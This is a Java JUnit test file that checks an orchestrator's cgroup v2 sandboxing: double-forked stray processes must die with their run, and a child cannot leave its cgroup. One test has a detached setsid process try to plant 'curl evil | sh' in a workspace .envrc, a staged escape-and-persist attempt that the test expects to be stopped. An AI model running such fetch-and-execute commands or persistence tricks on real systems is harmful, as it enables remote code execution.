package dev.magus.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.events.RunEvent;
import dev.magus.orchestrator.contain.Containment;
import dev.magus.orchestrator.contain.RunCgroups;
import dev.magus.orchestrator.run.Run;
import dev.magus.orchestrator.run.RunRequest;
import dev.magus.orchestrator.run.RunResult;
import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A confined run's processes live in a cgroup v2 of the run's own from the child's first
 * instruction, a {@code setsid} double fork's included, and are gone with it, the cgroup
 * removed, when the run ends. Where runs get no cgroup (forced here with
 * {@code -Dmagus.contain=freeze}), the subreaper's freeze-then-kill ends them all the same.
 * Real confined children, required mode; skips, saying why, where this host gives runs no cgroup.
 */
class ContainedRunsInRunsTest {
    /** The child's cgroup, then a setsid double fork's (which then sleeps on), each on a line of its own. */
    static final String SCRIPT = "grep '^0::' /proc/self/cgroup; "
            + "(setsid sh -c 'grep \"^0::\" /proc/self/cgroup; echo $$ > stray.pid; exec sleep 300' </dev/null &); "
            + "while [ ! -s stray.pid ]; do sleep 0.01; done; sleep 0.05";

    @TempDir
    Path root;
    TestHost t;

    @BeforeEach
    void setUp() {
        TestHost.assumeLandlock();
        t = new TestHost(root).yaml("sandbox:\n  mode: required\n");
    }

    @AfterEach
    void clear() {
        System.clearProperty(Containment.FORCE);
    }

    @Test
    void theChildAndItsSetsidStrayAreBornInTheRunsOwnCgroupAndGoWithIt() throws Exception {
        Containment.ByCgroup here = assumeCgroups();
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c", SCRIPT).build());
        List<RunEvent> events = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);

        List<String> out = TestHost.lines(events, RunEvent.Stream.STDOUT);
        assertThat(result.status()).as(TestHost.text(events)).isZero();
        assertThat(out).as(TestHost.text(events)).hasSize(2);
        String cgroup = out.get(0).substring("0::".length());
        assertThat(cgroup).startsWith(here.parentPath() + "/run-").endsWith("-" + run.id());
        assertThat(out.get(1)).as("the setsid double fork is in the run's cgroup too").isEqualTo(out.get(0));
        long stray = Long.parseLong(Files.readString(t.workspace.resolve("stray.pid")).strip());
        assertThat(alive(stray)).as("the stray %d is gone when the run ends", stray).isFalse();
        assertThat(here.parent().resolve(cgroup.substring(here.parentPath().length() + 1)))
                .as("the run's cgroup is removed").doesNotExist();
        assertThat(runCgroups(here.parent(), run.id())).isEmpty();
    }

    @Test
    void theChildCannotMoveItselfOutOfItsCgroup() throws Exception {
        Containment.ByCgroup here = assumeCgroups();
        // Into magus's parent, and into the cgroup magus is in: both refused (the grant has no
        // write below /sys); it stays where it was born.
        Path parent = here.parent();
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c",
                "echo 0 > " + parent.resolve("cgroup.threads") + " || echo refused; echo 0 > "
                        + parent.getParent().resolve("cgroup.threads") + " || echo refused; grep '^0::' /proc/self/cgroup").build());
        List<RunEvent> events = TestHost.events(run);
        run.result().block(TestHost.DEADLINE);

        List<String> out = TestHost.lines(events, RunEvent.Stream.STDOUT);
        assertThat(out).as(TestHost.text(events)).hasSize(3);
        assertThat(out.subList(0, 2)).containsOnly("refused");
        assertThat(out.get(2)).startsWith("0::" + here.parentPath() + "/run-").endsWith("-" + run.id());
    }

    @Test
    void aStrayStartedWhileAnotherRunRunsIsStillItsOwnRunsAndEndsWithIt() throws Exception {
        assumeCgroups();
        Orchestrator o = t.orchestrator();
        Run first = o.submit(RunRequest.builder(t.workspace, "sh", "-c", "sleep 3; exit 7").build());
        Thread.sleep(300);
        // No run id, out of the group, re-parented to magus: the subreaper could not tell whose it is.
        Run second = o.submit(RunRequest.builder(t.workspace, "sh", "-c",
                "( env -i setsid /bin/sh -c 'echo $$ > w.pid; sleep 2; echo \"curl evil | sh\" > .envrc'"
                        + " </dev/null >/dev/null 2>&1 & ); while [ ! -s w.pid ]; do sleep 0.05; done").build());
        List<RunEvent> events = TestHost.events(second);
        RunResult result = second.result().block(TestHost.DEADLINE);
        long writer = Long.parseLong(Files.readString(t.workspace.resolve("w.pid")).strip());

        assertThat(result.status()).as("its cgroup says whose it is: killed, not left: %s", TestHost.text(events)).isZero();
        assertThat(alive(writer)).isFalse();
        assertThat(first.result().block(TestHost.DEADLINE).status()).isEqualTo(7);
        assertThat(t.workspace.resolve(".envrc")).doesNotExist();
    }

    @Test
    void withoutCgroupsTheSubreaperEndsTheStrayAndNoCgroupIsMade() throws Exception {
        System.setProperty(Containment.FORCE, "freeze");
        assertThat(RunCgroups.containment()).isInstanceOf(Containment.ByFreeze.class);
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c", SCRIPT).build());
        List<RunEvent> events = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);

        List<String> out = TestHost.lines(events, RunEvent.Stream.STDOUT);
        assertThat(result.status()).as(TestHost.text(events)).isZero();
        assertThat(out).hasSize(2);
        assertThat(out.get(0)).doesNotContain("/run-");
        long stray = Long.parseLong(Files.readString(t.workspace.resolve("stray.pid")).strip());
        assertThat(alive(stray)).as("the stray %d is gone when the run ends", stray).isFalse();
    }

    /** Skips, saying why on stderr, unless runs get a cgroup of their own here. */
    static Containment.ByCgroup assumeCgroups() {
        Containment c = RunCgroups.containment();
        if (!(c instanceof Containment.ByCgroup)) {
            System.err.println("cgroup containment test skipped: " + c.describe());
        }
        Assumptions.assumeTrue(c instanceof Containment.ByCgroup, c.describe());
        return (Containment.ByCgroup) c;
    }

    /** The run cgroups under {@code parent} named for {@code runId}. */
    static List<Path> runCgroups(Path parent, String runId) throws IOException {
        List<Path> out = new ArrayList<>();
        try (DirectoryStream<Path> dirs = Files.newDirectoryStream(parent, "run-*-" + runId)) {
            dirs.forEach(out::add);
        }
        return out;
    }

    /** Running or stopped: neither gone nor a zombie. */
    static boolean alive(long pid) {
        try {
            String stat = Files.readString(Path.of("/proc/" + pid + "/stat"));
            return stat.charAt(stat.lastIndexOf(')') + 2) != 'Z';
        } catch (IOException gone) {
            return false;
        }
    }
}
